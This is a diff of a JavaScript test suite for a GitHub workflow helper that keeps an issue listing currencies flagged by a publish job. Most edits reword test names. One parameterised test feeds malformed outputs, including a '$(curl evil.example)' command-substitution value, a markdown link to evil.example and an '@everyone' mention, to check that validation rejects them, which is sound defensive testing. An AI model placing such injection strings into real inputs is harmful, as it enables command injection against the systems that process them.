@@ -23,7 +23,7 @@ const { keep } = workflow;
 const states = () => workflow.api.issues.map(({ state }) => state);
 
 describe('keepDoubtsIssue', () => {
-  it('opens one issue, with a line for each currency and the run', async () => {
+  it('opens one issue with a line for each currency and a link to the run', async () => {
     await keep([hkd, omitted]);
     expect(workflow.api.issues).toMatchObject([
       { state: 'open', title: 'A currency needs a look: held for a week, or omitted', comments: [] },
@@ -37,7 +37,7 @@ describe('keepDoubtsIssue', () => {
     expect(body).toMatch(/\n\nThe run that wrote this: https:\/\/github\.com\/me\/fork\/actions\/runs\/1$/);
   });
 
-  it('leaves the issue as it is if the list is the same, even after GitHub changed the line ends', async () => {
+  it('doesn’t edit the issue if the list is the same, even if GitHub changed the line ends', async () => {
     await keep([hkd]);
     await keep([hkd]);
     Object.assign(workflow.api.issues[0] ?? {}, { body: workflow.api.issues[0]?.body.replaceAll('\n', '\r\n') });
@@ -46,7 +46,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['open']);
   });
 
-  it('edits the text once, without a comment, when the list changes', async () => {
+  it('edits the text once, without a comment, if the list changes', async () => {
     await keep([hkd]);
     for (let run = 0; run < 2; run++) await keep([{ ...hkd, sourceValue: 8.3 }, omitted]);
     expect(workflow.api.edits).toEqual(['body']);
@@ -61,7 +61,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['open']);
   });
 
-  it('closes the issue with a comment when a publish succeeds with an empty list, and opens another issue next time', async () => {
+  it('closes the issue with a comment if a publish has an empty list, and opens another issue the next time', async () => {
     await keep([hkd]);
     await keep([], 'failure');
     expect(states()).toEqual(['open']);
@@ -77,7 +77,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['closed', 'open']);
   });
 
-  it('keeps an issue closed that a person has closed, until another currency or state is on the list', async () => {
+  it('doesn’t reopen an issue that a person closed, until another currency or state is on the list', async () => {
     await keep([hkd, omitted]);
     Object.assign(workflow.api.issues[0] ?? {}, { state: 'closed' });
     await keep([hkd, omitted]);
@@ -87,7 +87,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['closed', 'open']);
   });
 
-  it('changes nothing without the output of a publish', async () => {
+  it('changes nothing if the publish had no output', async () => {
     await keep([hkd]);
     await keep('');
     await keep('', 'failure');
@@ -95,7 +95,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['open']);
   });
 
-  it('changes nothing in an issue with the same title by another author', async () => {
+  it('never changes an issue with the same title by another author', async () => {
     const [title, body] = ['A currency needs a look: held for a week, or omitted', 'mine'];
     workflow.api.issues.push({ number: 1, state: 'open', title, labels: [], body, comments: [], author: 'me' });
     await keep([]);
@@ -110,7 +110,7 @@ describe('keepDoubtsIssue', () => {
     JSON.stringify([{ ...hkd, code: '@everyone' }]),
     JSON.stringify([{ ...hkd, reason: '`\n# [look](https://evil.example)' }]),
     JSON.stringify([{ ...hkd, sourceValue: '$(curl evil.example)' }]),
-  ])('throws and changes nothing when the output is %s', async (output) => {
+  ])('throws and changes nothing if the publish’s output is invalid: %s', async (output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
     await expect(keep(output)).rejects.toThrow(
       /^The publish job’s output "doubts" is malformed\. See \S+, which .*\.$/,
